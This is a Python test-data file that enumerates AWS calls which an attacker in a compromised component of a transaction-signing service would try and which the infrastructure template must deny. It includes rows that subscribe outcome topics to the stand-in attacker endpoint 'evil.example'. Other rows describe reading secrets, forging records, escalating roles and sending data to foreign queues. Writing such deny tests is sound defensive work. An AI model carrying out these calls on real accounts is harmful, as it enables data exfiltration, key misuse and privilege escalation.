"""The AWS calls that an attacker would make from a compromised component, and that must be denied.

Each row is a call that infra/template.yaml must deny with any parameters. The rows come from the table of permissions
in infra/SECURITY.md and from attacks that were tried on the real drivers.
"""

from __future__ import annotations

from rights import Call, call

SIGNED = {"kms__SigningAlgorithm": "ECDSA_SHA_256", "kms__MessageType": "DIGEST"}
# The attributes of a request that are fixed at its acceptance, and its seal.
FIXED = (
    "digest",
    "messageId",
    "account",
    "accountName",
    "chainId",
    "from",
    "nonce",
    "to",
    "value",
    "data",
    "gas",
    "gasPrice",
    "maxFeePerGas",
    "maxPriorityFeePerGas",
    "feeCap",
    "deadline",
    "sender",
    "seal",
    "metadata",
    "trace",
    "maxHeadMs",
    "policyDigest",
    "codeVersion",
    "asked",
)
# The attributes of an account that no stage may write. They decide which key signs.
OF_A_HEAD = ("name", "kmsKeyId", "registeredAt", "retiredAt", "accountKey", "requestId")


def writes(who: str, table: str, attribute: str, why: str, action: str = "dynamodb:UpdateItem") -> Call:
    key = ["requestId", "version"] if table == "RequestsTable" else ["account", "item"]
    return call(who, action, table, why, dynamodb__Attributes=[*key, attribute])


def broadcaster() -> list[Call]:
    me = "broadcaster"
    rows = [writes(me, "RequestsTable", name, "forges a record to get another signature") for name in FIXED]
    rows += [
        writes(me, "AccountsTable", name, "changes a head to use another account's key or policy") for name in OF_A_HEAD
    ]
    rows += [
        writes(me, "AccountsTable", "spend", "evades the spend limit of a window"),
        writes(me, "AccountsTable", "unusable", "marks every account as unusable"),
        call(me, "dynamodb:PutItem", "RequestsTable", "creates or overwrites a whole request"),
        call(me, "dynamodb:UpdateItem", "RequestsTable", "a write that names no attribute"),
        call(me, "dynamodb:UpdateItem", "AccountsTable", "a write that names no attribute"),
        call(me, "dynamodb:BatchWriteItem", "RequestsTable", "creates or deletes many requests"),
        call(me, "dynamodb:DeleteItem", "RequestsTable", "deletes the history and frees an id for a second execution"),
        call(me, "dynamodb:PutItem", "AccountsTable", "creates its own head or slot"),
        call(me, "dynamodb:BatchWriteItem", "AccountsTable", "creates or deletes any head, name or slot"),
        call(me, "dynamodb:DeleteItem", "AccountsTable", "removes an account or a slot"),
        call(me, "dynamodb:PartiQLUpdate", "RequestsTable", "the same with PartiQL"),
        call(me, "dynamodb:PartiQLInsert", "AccountsTable", "the same with PartiQL"),
        call(me, "dynamodb:Scan", "RequestsTable", "reads all requests at once"),
        call(me, "dynamodb:UpdateTable", "RequestsTable", "removes the deletion protection"),
        call(me, "dynamodb:DeleteTable", "AccountsTable", "deletes every nonce"),
        call(me, "dynamodb:UpdateTimeToLive", "AccountsTable", "changes the attribute by which items expire"),
        call(me, "dynamodb:GetItem", "OtherTable", "reads another application's data"),
        call(me, "kms:Sign", "Key", "signs", **SIGNED),
        call(me, "kms:Sign", "SignDirectKey", "signs with the other key", **SIGNED),
        call(me, "kms:GetPublicKey", "Key", "needs no key"),
        call(me, "kms:CreateGrant", "Key", "grants others the permission to sign"),
        call(me, "secretsmanager:GetSecretValue", "SealSecret", "seals a forged record"),
        call(me, "secretsmanager:GetSecretValue", "OtherSecret", "reads another application's data"),
        call(me, "secretsmanager:PutSecretValue", "RpcSecretArn", "replaces the nodes with its own"),
        call(me, "sqs:SendMessage", "SigningQueue", "sends requests as a sender"),
        call(me, "sqs:ReceiveMessage", "SigningQueue", "consumes requests", "lambda"),
        call(me, "sqs:ReceiveMessage", "ResignQueue", "consumes the signer's messages", "lambda"),
        call(me, "sqs:PurgeQueue", "BroadcastQueue", "empties a queue"),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends outcomes to an attacker",
            sns__Protocol="https",
            sns__Endpoint="https://evil.example",
        ),
        call(me, "sns:SetTopicAttributes", "OutcomeTopic", "changes who may publish"),
        call(me, "iam:PutRolePolicy", "BroadcasterRole", "extends its own permissions"),
        call(me, "lambda:UpdateFunctionCode", "SignerFunction", "becomes the signer"),
        call(me, "sts:AssumeRole", "SignerRole", "becomes the signer"),
        call(me, "ec2:DescribeSubnets", "*", "explores the network"),
    ]
    return rows


def signer() -> list[Call]:
    me = "signer"
    rows = [
        writes(me, "RequestsTable", name, "changes sealed attributes")
        for name in FIXED
        if name not in ("metadata", "trace")
    ]
    rows += [writes(me, "AccountsTable", name, "changes an account's name or key") for name in OF_A_HEAD]
    rows += [
        writes(me, "AccountsTable", "lowestOpenNonce", "skips open slots"),
        writes(me, "AccountsTable", "kmsKeyId", "creates a head", "dynamodb:PutItem"),
        call(me, "dynamodb:DeleteItem", "RequestsTable", "deletes the history"),
        call(me, "dynamodb:UpdateItem", "RequestsTable", "a write that names no attribute"),
        call(me, "dynamodb:UpdateItem", "AccountsTable", "a write that names no attribute"),
        call(me, "dynamodb:PutItem", "AccountsTable", "a write that names no attribute"),
        call(me, "dynamodb:DeleteItem", "AccountsTable", "frees a used nonce"),
        call(me, "dynamodb:BatchWriteItem", "AccountsTable", "frees used nonces in a batch"),
        call(me, "dynamodb:DeleteTable", "RequestsTable", "deletes the history"),
        call(me, "dynamodb:Scan", "RequestsTable", "reads all requests at once"),
        call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
        call(me, "secretsmanager:GetSecretValue", "OtherSecret", "reads another application's data"),
        call(
            me,
            "kms:Sign",
            "Key",
            "signs more than a digest",
            kms__SigningAlgorithm="ECDSA_SHA_256",
            kms__MessageType="RAW",
        ),
        call(
            me,
            "kms:Sign",
            "Key",
            "signs by another algorithm",
            kms__SigningAlgorithm="SM2DSA",
            kms__MessageType="DIGEST",
        ),
        call(me, "kms:Sign", "SignDirectKey", "signs with the other key", **SIGNED),
        call(me, "kms:Sign", "OtherKey", "signs with another application's key", **SIGNED),
        call(me, "kms:CreateGrant", "Key", "grants its permission to others"),
        call(me, "kms:ScheduleKeyDeletion", "Key", "destroys the key"),
        call(me, "kms:DisableKey", "Key", "stops an account"),
        call(me, "kms:PutKeyPolicy", "Key", "lets others sign"),
        call(me, "sqs:SendMessage", "SigningQueue", "sends requests to itself"),
        call(me, "sqs:SendMessage", "ResignQueue", "requests another signature from itself"),
        call(me, "sqs:SendMessage", "ForeignQueue", "sends data out of the network"),
        call(me, "sqs:ReceiveMessage", "BroadcastQueue", "consumes the broadcaster's pokes", "lambda"),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends outcomes to an attacker",
            sns__Protocol="https",
            sns__Endpoint="https://evil.example",
        ),
        call(me, "ec2:RunInstances", "Instance", "starts a machine", "lambda"),
        call(me, "ec2:CreateNetworkInterface", "Interface", "creates a route out of the network"),
        call(me, "ec2:DescribeSubnets", "*", "explores the network"),
        call(me, "iam:PutRolePolicy", "SignerRole", "extends its own permissions"),
    ]
    return rows


def stolen_credentials() -> list[Call]:
    """A role's credentials, used outside of its function."""
    rows = []
    for where in ("laptop", "other function"):
        rows += [
            call("signer", "kms:Sign", "Key", "signs", where, **SIGNED),
            call("signer", "kms:GetPublicKey", "Key", "reads a public key", where),
            call("signer", "dynamodb:PutItem", "RequestsTable", "creates requests", where),
            call("signer", "dynamodb:BatchGetItem", "AccountsTable", "reads accounts", where),
            call("signer", "sns:Publish", "OutcomeTopic", "publishes outcomes", where),
            call("signer", "sqs:SendMessage", "BroadcastQueue", "pokes", where),
            call("signer", "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key", where),
            call("sign-direct", "kms:Sign", "SignDirectKey", "signs", where, **SIGNED),
            call("sign-direct", "kms:GetPublicKey", "SignDirectKey", "reads a public key", where),
            call(
                "broadcaster",
                "dynamodb:UpdateItem",
                "RequestsTable",
                "writes statuses",
                where,
                dynamodb__Attributes=["requestId", "status"],
            ),
            call("broadcaster", "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs", where),
            call("broadcaster", "sns:Publish", "OutcomeTopic", "publishes outcomes", where),
            call("broadcaster", "sqs:SendMessage", "ResignQueue", "requests signatures", where),
        ]
    return rows


def sign_direct() -> list[Call]:
    me = "sign-direct"
    return [
        call(me, "kms:Sign", "Key", "signs for the queue's accounts", **SIGNED),
        call(
            me,
            "kms:Sign",
            "SignDirectKey",
            "signs more than a digest",
            kms__SigningAlgorithm="ECDSA_SHA_256",
            kms__MessageType="RAW",
        ),
        call(me, "kms:CreateGrant", "SignDirectKey", "grants its permission to others"),
        call(me, "dynamodb:GetItem", "RequestsTable", "reads requests"),
        call(me, "sqs:SendMessage", "SigningQueue", "sends requests to the queue"),
        call(me, "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key"),
        call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
        call(me, "sns:Publish", "OutcomeTopic", "publishes outcomes"),
    ]


def backend() -> list[Call]:
    me = "backend"
    return [
        call(me, "kms:Sign", "Key", "signs", **SIGNED),
        call(me, "sqs:SendMessage", "ResignQueue", "requests signatures"),
        call(me, "sqs:SendMessage", "BroadcastQueue", "pokes"),
        call(me, "sqs:SendMessage", "SigningDeadLetters", "gets a message redriven under another sender"),
        call(me, "sqs:ReceiveMessage", "SigningQueue", "reads and consumes other senders' requests"),
        call(me, "sqs:SendMessage", "SigningQueue", "without TLS", aws__SecureTransport="false"),
        call(me, "sns:Publish", "OutcomeTopic", "publishes false outcomes"),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends all outcomes to an attacker",
            sns__Protocol="https",
            sns__Endpoint="https://evil.example",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends all outcomes to an attacker",
            sns__Protocol="email",
            sns__Endpoint="me@evil.example",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends outcomes to a foreign queue",
            sns__Protocol="sqs",
            sns__Endpoint="ForeignQueue",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "subscribes an HTTPS endpoint with a queue's name",
            sns__Protocol="https",
            sns__Endpoint="BackendQueue",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "without TLS",
            sns__Protocol="sqs",
            sns__Endpoint="BackendQueue",
            aws__SecureTransport="false",
        ),
        call(me, "sns:Unsubscribe", "OutcomeTopic", "removes other subscriptions"),
        call(me, "dynamodb:Query", "RequestsTable/index/byAccount", "lists requests"),
        call(me, "dynamodb:Scan", "RequestsTable", "lists requests"),
        call(
            me, "dynamodb:UpdateItem", "RequestsTable", "writes a status", dynamodb__Attributes=["requestId", "status"]
        ),
        call(me, "dynamodb:GetItem", "AccountsTable", "reads accounts"),
        call(me, "lambda:InvokeFunction", "SignDirectFunction", "invokes the direct signer"),
    ]


def viewer() -> list[Call]:
    me = "viewer"
    return [
        call(me, "sqs:SendMessage", "SigningQueue", "sends requests"),
        call(me, "sqs:SendMessage", "ResignQueue", "requests signatures"),
        call(me, "sqs:ReceiveMessage", "SigningQueue", "consumes requests"),
        call(me, "sqs:ReceiveMessage", "SigningDeadLetters", "hides dead letters"),
        call(me, "sqs:ReceiveMessage", "BackendQueue", "consumes a backend's outcomes"),
        call(me, "sqs:DeleteQueue", "BackendQueue", "removes a backend's queue"),
        call(me, "dynamodb:UpdateItem", "RequestsTable", "cancels", dynamodb__Attributes=["requestId", "cancel"]),
        call(me, "dynamodb:UpdateItem", "AccountsTable", "pauses", dynamodb__Attributes=["account", "item", "paused"]),
        call(me, "sns:Publish", "OutcomeTopic", "publishes outcomes"),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "sends all outcomes to an attacker",
            sns__Protocol="https",
            sns__Endpoint="https://evil.example",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "subscribes an HTTPS endpoint with a queue's name",
            sns__Protocol="https",
            sns__Endpoint="WatchQueue",
        ),
        call(
            me,
            "sns:Subscribe",
            "OutcomeTopic",
            "subscribes a permanent queue",
            sns__Protocol="sqs",
            sns__Endpoint="BackendQueue",
        ),
        call(me, "kms:Sign", "Key", "signs", **SIGNED),
        call(me, "kms:GetPublicKey", "Key", "needs no public key"),
        call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
    ]


def operator() -> list[Call]:
    me = "operator"
    rows = [
        writes(me, "RequestsTable", name, "changes an accepted request")
        for name in ("digest", "nonce", "to", "value", "seal", "sender")
    ]
    rows += [
        writes(me, "AccountsTable", name, "changes an account's key, name or spending")
        for name in ("kmsKeyId", "name", "spend")
    ]
    rows += [
        call(me, "kms:Sign", "Key", "signs", **SIGNED),
        call(me, "kms:Sign", "SignDirectKey", "signs", **SIGNED),
        call(me, "kms:CreateGrant", "Key", "lets others sign"),
        call(me, "kms:PutKeyPolicy", "Key", "lets others sign"),
        call(me, "kms:ScheduleKeyDeletion", "Key", "destroys the key"),
        call(me, "dynamodb:UpdateItem", "RequestsTable", "a write that names no attribute"),
        call(me, "dynamodb:UpdateItem", "AccountsTable", "a write that names no attribute"),
        call(me, "dynamodb:PutItem", "RequestsTable", "creates a request without a message"),
        call(me, "dynamodb:DeleteItem", "RequestsTable", "deletes the history"),
        call(me, "dynamodb:DeleteTable", "RequestsTable", "deletes the history"),
        call(me, "secretsmanager:GetSecretValue", "RpcSecretArn", "reads the nodes' URLs"),
        call(me, "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key"),
        call(me, "sqs:ReceiveMessage", "SigningQueue", "consumes requests"),
        call(me, "sqs:PurgeQueue", "SigningQueue", "deletes requests"),
        call(me, "sns:SetTopicAttributes", "OutcomeTopic", "changes who may publish"),
        call(me, "lambda:UpdateFunctionCode", "SignerFunction", "becomes the signer"),
        call(me, "lambda:InvokeFunction", "SignDirectFunction", "invokes the direct signer"),
        call(me, "iam:PassRole", "SignerRole", "runs its own function with the role"),
        call(me, "sts:AssumeRole", "SignerRole", "becomes the signer"),
    ]
    return rows


def others() -> list[Call]:
    """An administrator of the AWS account, limited only by resource policies; and a principal of another account."""
    rows = [
        call("administrator", "kms:Sign", "Key", "signs", **SIGNED),
        call("administrator", "kms:Sign", "SignDirectKey", "signs", **SIGNED),
        call("administrator", "kms:CreateGrant", "Key", "lets others sign"),
        call("administrator", "kms:CreateGrant", "SignDirectKey", "lets others sign"),
        call("administrator", "kms:GetPublicKey", "Key", "needs no public key"),
        call("administrator", "sqs:SendMessage", "ResignQueue", "requests signatures"),
        call("administrator", "sqs:SendMessage", "BroadcastQueue", "pokes"),
        call("administrator", "sns:Publish", "OutcomeTopic", "publishes outcomes"),
        call("administrator", "sqs:SendMessage", "SigningQueue", "without TLS", aws__SecureTransport="false"),
        call("administrator", "s3:PutObject", "TrailBucket/object", "without TLS", aws__SecureTransport="false"),
        call("administrator", "sns:Publish", "AlarmTopic", "without TLS", aws__SecureTransport="false"),
        call("administrator", "lambda:InvokeFunction", "SignDirectFunction", "gets a transaction signed"),
        call("administrator", "secretsmanager:GetSecretValue", "SealSecret", "reads the seal key"),
        call("administrator", "sts:AssumeRole", "SignerRole", "becomes the signer"),
        call("administrator", "sts:AssumeRole", "BroadcasterRole", "becomes the broadcaster"),
        call(
            "cloudwatch",
            "sns:Publish",
            "AlarmTopic",
            "publishes another account's alarm",
            aws__SourceAccount="777788889999",
        ),
        call(
            "logs", "sts:AssumeRole", "TrailRole", "for another account's log group", aws__SourceAccount="777788889999"
        ),
        call(
            "firehose", "sts:AssumeRole", "TrailRole", "for another account's stream", aws__SourceAccount="777788889999"
        ),
        call(
            "lambda",
            "sts:AssumeRole",
            "SignerRole",
            "for another account's function",
            aws__SourceAccount="777788889999",
        ),
        call(
            "lambda",
            "sts:AssumeRole",
            "BroadcasterRole",
            "for another account's function",
            aws__SourceAccount="777788889999",
        ),
        call(
            "lambda",
            "sts:AssumeRole",
            "SignDirectRole",
            "for another account's function",
            aws__SourceAccount="777788889999",
        ),
    ]
    for action, on in (
        ("sqs:SendMessage", "SigningQueue"),
        ("sqs:SendMessage", "ResignQueue"),
        ("sns:Subscribe", "OutcomeTopic"),
        ("sns:Publish", "OutcomeTopic"),
        ("dynamodb:GetItem", "RequestsTable"),
        ("dynamodb:PutItem", "AccountsTable"),
        ("secretsmanager:GetSecretValue", "SealSecret"),
        ("sts:AssumeRole", "SignerRole"),
    ):
        rows.append(call("foreign-account", action, on, "from another AWS account"))
    rows.append(call("foreign-account", "kms:Sign", "Key", "from another AWS account", **SIGNED))
    rows += [
        call("administrator", "dynamodb:GetItem", "RequestsTable", "uses the signer's network", "network"),
        call("administrator", "sqs:SendMessage", "SigningQueue", "uses the signer's network", "network"),
        # An attacker in the signer uses its own credentials to send data out of the network.
        call("foreign-account", "dynamodb:PutItem", "ForeignTable", "sends data out of the network", "network"),
        call("foreign-account", "sqs:SendMessage", "ForeignQueue", "sends data out of the network", "network"),
        call(
            "foreign-account",
            "secretsmanager:GetSecretValue",
            "OtherSecret",
            "sends data out of the network",
            "network",
        ),
    ]
    return rows


def denied() -> list[Call]:
    parts = (broadcaster, signer, stolen_credentials, sign_direct, backend, viewer, operator, others)
    return [row for part in parts for row in part()]
